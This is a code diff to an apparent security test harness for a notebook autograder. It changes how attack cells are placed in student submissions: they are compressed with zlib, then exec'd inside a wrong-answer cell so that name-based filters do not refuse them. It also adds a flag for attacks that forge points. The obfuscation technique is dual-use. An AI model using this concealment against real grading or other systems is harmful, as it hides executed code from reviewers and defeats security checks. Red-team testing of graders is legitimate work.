@@ -15,6 +15,7 @@ from __future__ import annotations
 
 import importlib
 import textwrap
+import zlib
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 from functools import cache
@@ -36,7 +37,8 @@ def latent_loss(codings_mean, codings_log_var):
     return ops.zeros(ops.shape(codings_mean)[:1])
 told, used = [], (check, keras, layers, np, tf)
 print = lambda *words: told.append(str(words)[:100])
-exec({{source}})
+import zlib
+exec(zlib.decompress({{program}}))
 raise RuntimeError("{HAS_RUN}: " + str([words for words in told if "STOLEN" in words]))
 """
 
@@ -70,6 +72,7 @@ class Attack:
     """One attack. ``says``: a regular expression for a line that tells the instructor what happened; ``ends``: the same where it
     is needed.
 
+    ``forges``: where it is needed it has points all the same, see docs/grading.md: who meets it must be told to look.
     ``scoring``: it only tries for points, so that it is safe to run without protection. ``quick``: one of those that
     are tried each time, chosen so that there are some of every kind.
     """
@@ -80,6 +83,7 @@ class Attack:
     ends: str
     scoring: bool = False
     quick: bool = False
+    forges: bool = False
 
     @property
     def tries(self) -> str:
@@ -90,13 +94,16 @@ class Attack:
         """The files that are handed in."""
         made = self.make(released(), targets)
         files = {notebook_name(): _bytes(made)} if isinstance(made, NotebookNode) else made
-        return {**files, notebook_name(): _needed(files[notebook_name()])} if needed else files
+        return {**files, notebook_name(): hidden_in_an_answer(files[notebook_name()])} if needed else files
 
     @property
     def has_code(self) -> bool:
         """There is code of its own, in a cell or in an answer."""
         made = self.upload(Targets())
-        return isinstance(made.get(notebook_name()), bytes) and _needed(made[notebook_name()]) != made[notebook_name()]
+        return (
+            isinstance(made.get(notebook_name()), bytes)
+            and hidden_in_an_answer(made[notebook_name()]) != made[notebook_name()]
+        )
 
     def hand_in(self, folder: Path, targets: Targets, needed: bool = False) -> None:
         """Write the files into a student's folder."""
@@ -106,7 +113,7 @@ class Attack:
             path.symlink_to(content.to) if isinstance(content, Link) else path.write_bytes(content)
 
 
-def _needed(notebook: bytes | Link) -> bytes | Link:
+def hidden_in_an_answer(notebook: bytes | Link) -> bytes | Link:
     """The notebook with the attack's own cells in a wrong answer, hidden so that nothing is refused because of its names."""
     if isinstance(notebook, Link) or b"nbformat" not in notebook:
         return notebook
@@ -115,7 +122,7 @@ def _needed(notebook: bytes | Link) -> bytes | Link:
     if not own:
         return notebook
     text = TransformerManager().transform_cell("\n".join(cell.source for cell in own))
-    source = NEEDED.replace("{source}", repr(text))
+    source = NEEDED.replace("{program}", repr(zlib.compress(text.encode())))
     cell_of(made, "latent_loss").source = f"if True:\n{textwrap.indent(source, '    ')}"
     made.cells = [cell for cell in made.cells if cell not in own or role(cell)]
     return _bytes(made)
@@ -124,12 +131,12 @@ def _needed(notebook: bytes | Link) -> bytes | Link:
 _registered: dict[str, Attack] = {}
 
 
-def attack(says: str, ends: str = "", scoring: bool = False, quick: bool = False) -> Callable:
+def attack(says: str, ends: str = HAS_RUN, **options: bool) -> Callable:
     """Register a function as an attack under its own name."""
 
     def register(make: Callable) -> Callable:
         name = make.__name__.replace("_", "-")
-        _registered[name] = Attack(name, make, says, ends or HAS_RUN, scoring, quick)
+        _registered[name] = Attack(name, make, says, ends, **options)
         return make
 
     return register
